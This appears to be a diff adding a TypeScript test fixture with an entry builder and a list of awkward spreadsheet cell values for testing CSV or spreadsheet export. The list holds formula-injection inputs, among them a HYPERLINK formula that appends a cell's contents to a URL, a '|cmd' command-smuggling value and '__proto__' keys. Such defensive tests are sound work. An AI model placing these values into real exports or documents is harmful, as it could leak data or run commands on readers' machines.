@@ -1,0 +1,32 @@
+import { type Entry, type EntryValues, entryValues } from "#domain/entry.ts";
+
+/** An entry with what the test is about; everything else is plain. */
+export function anEntry(values: EntryValues = {}, no = "KI-2026-0001"): Entry {
+  return {
+    no,
+    revision: 1,
+    versionRevision: 1,
+    values: entryValues({ registerNo: no, title: "Chatassistenz", ...values }),
+  };
+}
+
+/** Cells that break careless writers and run in careless readers. */
+export const NASTY_CELLS = [
+  '=HYPERLINK("https://example.org?x="&A1;"Bitte klicken")',
+  "+49 341 123-0",
+  "-1+1|cmd",
+  "@SUM(A1)",
+  "\tmit Tabulator",
+  "\rmit Wagenrücklauf",
+  "'schon mit Strich",
+  "''zwei Striche",
+  'Sagt "ja"; sagt "nein"',
+  "Zeile 1\nZeile 2\r\nZeile 3",
+  "Größe, Maß & Übermaß <b>fett</b>",
+  "👩‍💻🏛️ 10 €",
+  " Leerzeichen ",
+  "constructor",
+  "__proto__",
+  "_x0041_ bleibt",
+  "a;b,c",
+] as const;
